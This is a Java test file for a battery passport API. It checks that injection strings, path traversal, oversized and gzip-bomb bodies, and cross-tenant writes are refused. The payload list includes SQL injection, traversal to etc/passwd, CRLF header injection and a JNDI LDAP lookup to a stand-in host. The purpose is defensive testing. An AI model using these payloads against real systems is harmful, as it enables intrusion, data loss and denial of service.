package dev.denchi.api;

import static dev.denchi.api.Calls.anyone;
import static dev.denchi.api.Calls.as;
import static dev.denchi.api.Calls.encoded;
import static dev.denchi.api.Refusals.refused;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Input that is made to harm: each is refused with a reason, nothing is stored, and the service goes on. */
@QuarkusTest
@QuarkusTestResource(TestServers.class)
class HostileInputTest {
    private static final int FIFTY_MEGABYTES = 50_000_000;
    private static final List<String> TRICKS = List.of(
            encoded("' OR '1'='1"),
            encoded("1'; drop table passport.record; --"),
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%5c..%5cwin.ini",
            "%252e%252e%252f",
            "x%00.json",
            "%ff%fe",
            "%0d%0aSet-Cookie:%20a=b",
            "%24%7bjndi:ldap:%2f%2fevil.example%7d",
            "%e2%80%ae",
            "-1",
            "99999999999999999999",
            "x".repeat(600));

    @Inject
    Store store;

    private record Endpoint(String method, String path) {
        String with(String trick) {
            return path.replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(trick));
        }

        boolean hasParameters() {
            return path.contains("{");
        }
    }

    @AfterEach
    void the_service_goes_on() {
        anyone().get("/q/health/ready").then().statusCode(200).body("status", equalTo("UP"));
    }

    @Test
    void refuses_nesting_and_numbers_wherever_json_is_taken() throws IOException {
        for (Endpoint endpoint : endpoints()) {
            if (endpoint.method().equals("get") || endpoint.method().equals("delete")) {
                continue;
            }
            for (String body : List.of(
                    "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
                    "[".repeat(5000),
                    "{\"a\": NaN}",
                    "{\"a\": -Infinity}",
                    "{\"batteryMass\": {\"value\": " + "9".repeat(401) + ", \"unit\": \"kg\"}}",
                    "{\"a\": 1, \"a\": 2}")) {
                refusedSomehow(
                        () -> sent(as(People.CELL_MAKERS_ADMINISTRATOR).body(bytes(body)), endpoint, "1"), endpoint);
            }
        }
    }

    @Test
    void refuses_encodings_other_than_utf_8_wherever_json_is_taken() throws IOException {
        byte[] bomb = gzipped(new byte[FIFTY_MEGABYTES]);
        byte[] honest = gzipped(
                Examples.ofModel("battery-model", "HOSTILE-GZIP").toString().getBytes(StandardCharsets.UTF_8));
        byte[] utf16 =
                Examples.ofModel("battery-model", "HOSTILE-UTF-16").toString().getBytes(StandardCharsets.UTF_16LE);
        for (Endpoint endpoint : endpoints()) {
            if (endpoint.method().equals("get") || endpoint.method().equals("delete")) {
                continue;
            }
            for (byte[] zipped : List.of(bomb, honest)) {
                refusedSomehow(
                        () -> sent(
                                as(People.CELL_MAKERS_ADMINISTRATOR)
                                        .header("Content-Encoding", "gzip")
                                        .body(zipped),
                                endpoint,
                                "1"),
                        endpoint);
            }
            refusedSomehow(() -> sent(as(People.CELL_MAKERS_ADMINISTRATOR).body(utf16), endpoint, "1"), endpoint);
        }
    }

    @Test
    void refuses_fifty_megabytes_whether_their_length_is_told_or_not() throws IOException {
        long before = store.records();
        for (String length : List.of("Content-Length: " + FIFTY_MEGABYTES, "Transfer-Encoding: chunked")) {
            String answer = toldFiftyMegabytes(length);
            assertTrue(answer.startsWith("HTTP/1.1 413 "), answer);
            assertTrue(answer.contains("application/problem+json"), answer);
            assertTrue(answer.contains("https://denchi.dev/problems#body-too-large"), answer);
        }
        assertEquals(before, store.records());
    }

    @Test
    void refuses_tricks_in_every_path() throws IOException {
        for (Endpoint endpoint : endpoints()) {
            for (String trick : endpoint.hasParameters() ? TRICKS : List.<String>of()) {
                for (People caller : List.of(People.CELL_MAKERS_ADMINISTRATOR, People.CONNECTOR)) {
                    refusedSomehow(() -> sent(as(caller).body(bytes("{}")), endpoint, trick), endpoint);
                }
            }
        }
    }

    @Test
    void no_trick_in_any_query_breaks_it() throws IOException {
        List<String> parameters = found("(?m)^ +(?:- )?name: (\\w+)\\n +in: query$");
        assertTrue(parameters.containsAll(List.of("limit", "representation", "operator", "category", "date")));
        for (Endpoint endpoint : endpoints()) {
            for (String trick :
                    endpoint.method().equals("get") ? TRICKS.subList(0, TRICKS.size() - 1) : List.<String>of()) {
                String query = "?" + String.join("=" + trick + "&", parameters) + "=" + trick;
                Response answer = store.unchangedBy(
                        () -> as(People.CELL_MAKERS_ADMINISTRATOR).get(endpoint.with("1") + query));
                assertTrue(answer.statusCode() < 500, () -> endpoint + query + answer.asString());
            }
        }
        for (String parameter : List.of("limit", "offset", "accessPoint", "batteryCategory", "operator")) {
            for (String trick : TRICKS) {
                Response answer = as(People.CONNECTOR).get("/v1/record-sets?" + parameter + "=" + trick);
                assertTrue(answer.statusCode() < 500, () -> parameter + "=" + trick + answer.asString());
            }
        }
    }

    @Test
    void refuses_years_that_no_database_has() {
        Calls.postModel("HOSTILE-YEARS");
        String passport =
                Calls.post("battery", Examples.newBattery("HOSTILE-YEARS")).path("links.passport");
        for (String year : List.of("-999999999", "%2B999999999", "%2B10000", "-0001", "%2B294277")) {
            String date = passport.replace("/dpps/", "/dppsByIdAndDate/") + "?date=" + year + "-01-01T00:00:00Z";
            assertEquals(400, anyone().get(date).statusCode(), date);
            String readiness = passport + "/readiness?date=" + year + "-01-01";
            refused(as(People.CELL_MAKER).get(readiness), 400, "malformed-request");
        }
    }

    @Test
    void another_tenants_ids_open_nothing_for_writing() throws IOException {
        Calls.postModel("HOSTILE-1");
        ObjectNode battery = Examples.newBattery("HOSTILE-1");
        Response receipt = Calls.post("battery", battery);
        receipt.then().statusCode(201);
        String imported = as(People.CELL_MAKER)
                .contentType("application/json")
                .body("{\"CarbonFootprintForBatteries\": {\"batteryCarbonFootprint\": 0.0846}}")
                .post("/v1/imports/batterypass-1.2.1")
                .path("importId");
        for (String id : List.of(
                receipt.<String>path("recordId"),
                encoded(battery.path("batteryPassportIdentifier").asText()),
                imported)) {
            for (Endpoint endpoint : endpoints()) {
                if (endpoint.hasParameters() && !endpoint.method().equals("get")) {
                    refusedSomehow(
                            () -> sent(
                                    as(People.OTHER_MAKERS_ADMINISTRATOR)
                                            .header("If-Match", receipt.header("ETag"))
                                            .body(battery.toString()),
                                    endpoint,
                                    id),
                            endpoint);
                }
            }
            refused(as(People.OTHER_MAKER).get("/v1/imports/" + imported + "/raw"), 404, "not-found");
        }
    }

    private void refusedSomehow(java.util.function.Supplier<Response> request, Endpoint endpoint) {
        Response answer = store.unchangedBy(request);
        String told = endpoint + " " + answer.statusCode() + " " + answer.contentType() + " " + answer.asString();
        assertTrue(answer.statusCode() / 100 == 4, told);
        assertFalse(answer.asString().contains("Exception"), told);
        if (answer.contentType().equals("application/problem+json")) {
            assertTrue(answer.<String>path("type").startsWith("https://denchi.dev/problems#"), told);
        } else {
            assertTrue(endpoint.path().startsWith("/v1/dpps"), told);
            assertEquals("Error", answer.path("message[0].messageType"), told);
        }
    }

    private static Response sent(RequestSpecification call, Endpoint endpoint, String parameter) {
        RequestSpecification request =
                endpoint.path().endsWith("/bulk") ? call.contentType("text/csv") : call.contentType("application/json");
        return request.request(endpoint.method(), endpoint.with(parameter));
    }

    /** The client of the tests would print a text prettily, and exhaust itself. */
    private static byte[] bytes(String body) {
        return body.getBytes(StandardCharsets.UTF_8);
    }

    /** Past every client's own manners: it keeps sending while it is being refused. */
    private static String toldFiftyMegabytes(String length) throws IOException {
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST /v1/records/battery-model HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
                            + People.CELL_MAKER.key() + "\r\nContent-Type: application/json\r\n" + length + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            CompletableFuture<Void> sending =
                    CompletableFuture.runAsync(() -> sendFiftyMegabytes(out, length.startsWith("Transfer")));
            String answer = answerOn(socket);
            socket.close();
            sending.join();
            return answer;
        }
    }

    private static void sendFiftyMegabytes(OutputStream out, boolean chunked) {
        byte[] part = " ".repeat(100_000).getBytes(StandardCharsets.US_ASCII);
        try {
            for (int sent = 0; sent < FIFTY_MEGABYTES; sent += part.length) {
                out.write(chunked ? "186a0\r\n".getBytes(StandardCharsets.US_ASCII) : new byte[0]);
                out.write(part);
                out.write(chunked ? "\r\n".getBytes(StandardCharsets.US_ASCII) : new byte[0]);
            }
        } catch (IOException refused) {
            // the other side need not listen to the end
        }
    }

    private static String answerOn(Socket socket) throws IOException {
        ByteArrayOutputStream answer = new ByteArrayOutputStream();
        byte[] some = new byte[4096];
        try {
            for (int read; (read = socket.getInputStream().read(some)) >= 0; ) {
                answer.write(some, 0, read);
                if (answer.toString(StandardCharsets.UTF_8).endsWith("}")) {
                    break;
                }
            }
        } catch (java.net.SocketException ended) {
            // what was heard until then counts
        }
        return answer.toString(StandardCharsets.UTF_8);
    }

    private static byte[] gzipped(byte[] bytes) throws IOException {
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(zipped)) {
            gzip.write(bytes);
        }
        return zipped.toByteArray();
    }

    /** Every address of the contract with every method. */
    private static List<Endpoint> endpoints() throws IOException {
        List<Endpoint> endpoints = new ArrayList<>();
        String path = "";
        for (String line : contract().lines().toList()) {
            if (line.matches("  /\\S+:")) {
                path = line.substring(2, line.length() - 1);
            } else if (line.matches("    (get|put|post|patch|delete):")) {
                endpoints.add(new Endpoint(line.substring(4, line.length() - 1), path));
            }
        }
        assertTrue(endpoints.size() > 30, endpoints::toString);
        return endpoints;
    }

    private static List<String> found(String pattern) throws IOException {
        return java.util.regex.Pattern.compile(pattern)
                .matcher(contract())
                .results()
                .map(match -> match.group(1))
                .distinct()
                .toList();
    }

    private static String contract() throws IOException {
        return Files.readString(Path.of("..", "openapi", "passport-api.yaml"));
    }
}
